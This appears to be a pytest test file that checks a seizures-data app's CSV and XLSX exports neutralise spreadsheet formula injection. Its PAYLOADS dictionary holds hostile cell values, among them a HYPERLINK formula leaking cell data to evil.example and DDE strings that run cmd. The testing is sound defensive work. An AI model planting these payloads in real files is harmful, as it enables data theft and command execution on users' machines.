"""Every file the app or the command line writes is safe to open in a spreadsheet (spreadsheet.py): text that a
spreadsheet would run (leading = + - @, tab, carriage return) is written with an apostrophe in CSV and as a string
cell in XLSX, never a formula; numbers stay numbers; the rejected rows come back as typed when imported again."""

from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pandas as pd
import pytest
import sqlalchemy as sa

from import_files import HEADER, csv_bytes, row
from seizures import cli, disclosure, export, ingest, schema, spreadsheet, template
from seizures.filters import SeizureFilter

TODAY = dt.date(2024, 6, 30)
# Issue 15's payloads, one for each character a spreadsheet takes as the start of a formula.
PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+": "+cmd|' /C calc'!A0",
    "@": "@SUM(1)",
    "-": "-2+3+cmd|' /C calc'!A0",
    "= short": "=1+1",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def formula_cells(data: bytes) -> list[str]:
    """Every cell of a workbook that a spreadsheet would compute (formula) or show as an error value."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [f"{sheet.title}!{cell.coordinate}" for sheet in book.worksheets for r in sheet.iter_rows() for cell in r
            if cell.data_type in ("f", "e")]


def csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def assert_csv_safe(data: bytes) -> None:
    for line in csv_cells(data):
        for value in line:
            assert not spreadsheet.risky(value), value


# --- the rules ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)
def test_each_risky_start_gets_an_apostrophe(payload):
    assert spreadsheet.risky(payload)
    assert spreadsheet.defuse(payload) == "'" + payload


@pytest.mark.parametrize("text", ["-5", "+1.5", "-12%", "-1,234.5", "-0.5e3", "plain", "'=already quoted", " =x", ""])
def test_numbers_and_plain_text_are_left_alone(text):
    assert spreadsheet.defuse(text) == text


def test_a_frame_keeps_its_numbers_and_defuses_its_text_and_column_names():
    frame = pd.DataFrame({"label": ["=1+1", "Peja", None], "value": [-3.5, 2.0, None], "=bad name": [1, 2, 3]})
    out = spreadsheet.defused(frame)
    assert out["label"].tolist()[:2] == ["'=1+1", "Peja"] and pd.isna(out["label"].iloc[2])
    assert out["value"].dtype == "float64" and out["value"].iloc[0] == -3.5
    assert list(out.columns) == ["label", "value", "'=bad name"]
    assert frame["label"].iloc[0] == "=1+1"  # the frame itself is not changed
    text = spreadsheet.csv_bytes(frame).decode()
    assert text.split("\r\n")[1] == "'=1+1,-3.5,1"


@pytest.mark.parametrize("value", ["=x", "''=x", "'=x", "-5", "'-5", "@", "'", "x", "\t=1", "'\r=1", "-2+3"])
def test_quoting_for_reimport_is_undone_exactly(value):
    quoted = spreadsheet.quoted(value)
    assert not spreadsheet.risky(quoted)
    assert spreadsheet.unquoted(quoted) == value


# --- the files --------------------------------------------------------------------------------------------------


@pytest.fixture()
def hostile_engine(any_demo_copy_engine):
    """The demo store plus one line per payload, in its source (set by SQL: the import trims the tab and carriage
    return away), and one in a case reference."""
    header = [*HEADER, "source"]
    rows = [row(case_ref=f"HOSTILE-{i}") for i in range(len(PAYLOADS))]
    rows.append(row(case_ref=PAYLOADS["="]))
    result = ingest.import_file(any_demo_copy_engine, csv_bytes(rows, header), "hostile.csv", today=TODAY, user="t")
    assert result.status == "imported", result.errors
    s = schema.seizures
    with any_demo_copy_engine.begin() as conn:
        for i, payload in enumerate(PAYLOADS.values()):
            conn.execute(s.update().where(s.c.case_ref == f"HOSTILE-{i}").values(source=payload))
    return any_demo_copy_engine


def test_records_csv(hostile_engine):
    data = export.records_csv(hostile_engine, SeizureFilter(year_from=2023, year_to=2023))
    assert_csv_safe(data)
    lines = csv_cells(data)
    header = lines[0]
    by_case = {line[header.index("case_ref")]: line for line in lines[1:]}
    for i, payload in enumerate(PAYLOADS.values()):
        assert by_case[f"HOSTILE-{i}"][header.index("source")] == "'" + payload
    assert "'" + PAYLOADS["="] in by_case
    assert by_case["HOSTILE-0"][header.index("quantity")] == "1"


def test_records_xlsx(hostile_engine):
    data = export.records_xlsx(hostile_engine, SeizureFilter(year_from=2023, year_to=2023))
    assert formula_cells(data) == []
    sheet = openpyxl.load_workbook(io.BytesIO(data))["records"]
    rows = list(sheet.iter_rows(values_only=True))
    header = rows[0]
    sources = {r[header.index("case_ref")]: r[header.index("source")] for r in rows[1:]}
    for i, payload in enumerate(PAYLOADS.values()):
        assert sources[f"HOSTILE-{i}"] == payload.replace("\r", "\n")  # as text (XML reads a CR as LF)
    assert PAYLOADS["="] in sources
    assert isinstance(rows[1][header.index("quantity")], (int, float))


def test_chart_data_csv():
    """What a chart's "Download data (CSV)" writes (ui.chart will call spreadsheet.csv_bytes)."""
    frame = pd.DataFrame({"region": ["=cmd|' /C calc'!A0", "Peja"], "year": [2022, 2023], "change": [-4.0, 2.5]})
    data = spreadsheet.csv_bytes(disclosure.shown(frame))
    assert_csv_safe(data)
    assert csv_cells(data)[1:] == [["'=cmd|' /C calc'!A0", "2022", "-4"], ["Peja", "2023", "2.5"]]


IMPORTED = PAYLOADS


def hostile_file() -> bytes:
    """One valid line, and one line per payload that is invalid (its date, its context) and carries the payload
    in its source and context, so that it is reported and rejected."""
    header = [*HEADER, "source"]
    rows = [row(case_ref="GOOD-1")]
    rows += [row(case_ref=f"BAD-{i}", source=payload, seized_on="2999-01-01", context=payload)
             for i, payload in enumerate(IMPORTED.values())]
    return csv_bytes(rows, header, line_end="\r\n")  # "\r\n": the carriage return in a value is quoted


def test_the_problems_file_of_the_command_line(any_demo_copy_url, tmp_path):
    source, problems, by_row = tmp_path / "in.csv", tmp_path / "problems.csv", tmp_path / "rows.csv"
    source.write_bytes(hostile_file())
    assert cli.main(["--db-url", any_demo_copy_url, "import", str(source), "--errors-out", str(problems),
                     "--errors-by-row-out", str(by_row)]) == 1
    assert_csv_safe(problems.read_bytes())  # grouped: the values and reasons hold the payloads too
    data = by_row.read_bytes()
    assert_csv_safe(data)
    values = [line[2] for line in csv_cells(data)[1:]]
    assert "'" + PAYLOADS["@"] in values and "'" + PAYLOADS["-"] in values


def test_the_problems_download_of_the_data_page(any_demo_copy_engine):
    result = ingest.import_file(any_demo_copy_engine, hostile_file(), "in.csv", today=TODAY, user="t")
    assert_csv_safe(spreadsheet.csv_bytes(result.problems()))
    assert_csv_safe(spreadsheet.csv_bytes(result.grouped()))


def test_rejected_rows_are_safe_and_import_again_as_typed(any_demo_copy_url, tmp_path):
    """The rejected-rows file quotes risky values and says so; corrected (the date) and imported, every value
    is stored as first typed."""
    source, rejected = tmp_path / "in.csv", tmp_path / "rejected.csv"
    source.write_bytes(hostile_file())
    assert cli.main(["--db-url", any_demo_copy_url, "import", str(source), "--skip-invalid",
                     "--rejected-out", str(rejected)]) == 0
    data = rejected.read_bytes()
    assert_csv_safe(data)
    lines = csv_cells(data)
    header = lines[0]
    assert header[-1] == ingest.ERRORS_COLUMN
    assert all(ingest.QUOTE_NOTE in line[-1] for line in lines[1:])
    assert len(lines) == 1 + len(IMPORTED)
    corrected = io.StringIO()
    writer = csv.writer(corrected)
    writer.writerow(header)
    for line in lines[1:]:
        line[header.index("seized_on")] = "2023-03-05"
        line[header.index("context")] = "other"
        writer.writerow(line)
    again = tmp_path / "corrected.csv"
    again.write_text(corrected.getvalue(), encoding="utf-8")
    assert cli.main(["--db-url", any_demo_copy_url, "import", str(again)]) == 0
    engine = sa.create_engine(any_demo_copy_url)
    s = schema.seizures
    with engine.connect() as conn:
        stored = dict(conn.execute(sa.select(s.c.case_ref, s.c.source).where(s.c.case_ref.like("BAD-%"))).all())
    engine.dispose()
    assert stored == {f"BAD-{i}": payload.strip() for i, payload in enumerate(IMPORTED.values())}


def test_a_value_typed_with_a_leading_apostrophe_survives_the_round_trip(any_demo_copy_url, tmp_path):
    source, rejected = tmp_path / "in.csv", tmp_path / "rejected.csv"
    source.write_bytes(csv_bytes([row(case_ref="'=typed", seized_on="bad"), row(case_ref="OK-1")]))
    cli.main(["--db-url", any_demo_copy_url, "import", str(source), "--skip-invalid", "--rejected-out", str(rejected)])
    lines = csv_cells(rejected.read_bytes())
    assert lines[1][HEADER.index("case_ref")] == "''=typed"
    lines[1][0] = "2023-03-05"
    out = io.StringIO()
    csv.writer(out).writerows(lines)
    (tmp_path / "fixed.csv").write_text(out.getvalue(), encoding="utf-8")
    assert cli.main(["--db-url", any_demo_copy_url, "import", str(tmp_path / "fixed.csv")]) == 0
    engine = sa.create_engine(any_demo_copy_url)
    with engine.connect() as conn:
        assert conn.execute(sa.select(schema.seizures.c.case_ref).where(
            schema.seizures.c.case_ref.like("%typed"))).scalar_one() == "'=typed"
    engine.dispose()


def test_templates_with_hostile_names_in_the_store(demo_copy_engine):
    with demo_copy_engine.begin() as conn:
        conn.execute(schema.municipalities.update().where(schema.municipalities.c.name == "Prizren")
                     .values(name=PAYLOADS["="]))
        conn.execute(schema.municipalities.update().where(schema.municipalities.c.name == "Prishtinë")
                     .values(name=PAYLOADS["+"]))  # the example row's municipality (the first region's)
    assert_csv_safe(template.allowed_values_csv(demo_copy_engine))
    assert_csv_safe(template.template_csv(demo_copy_engine))
    assert formula_cells(template.template_xlsx(demo_copy_engine)) == []


def test_a_workbook_filled_by_pandas_keeps_no_formula():
    """What the donor report's workbook does (pandas to_excel, then spreadsheet.no_formulas before it is saved)."""
    frame = pd.DataFrame({"source": list(PAYLOADS.values()) + ["#N/A"], "rows": range(len(PAYLOADS) + 1)})
    buffer = io.BytesIO()
    with pd.ExcelWriter(buffer, engine="openpyxl") as writer:
        frame.to_excel(writer, sheet_name="sources", index=False)
        spreadsheet.no_formulas(writer.book)
    assert formula_cells(buffer.getvalue()) == []
    values = [r[0] for r in openpyxl.load_workbook(buffer).active.iter_rows(min_row=2, values_only=True)]
    assert values == [p.replace("\r", "\n") for p in PAYLOADS.values()] + ["#N/A"]  # XML reads a CR as LF


def test_the_donor_report_workbook(hostile_engine):
    from seizures import report

    assert formula_cells(report.build_xlsx(hostile_engine, SeizureFilter(year_from=2023, year_to=2023))) == []
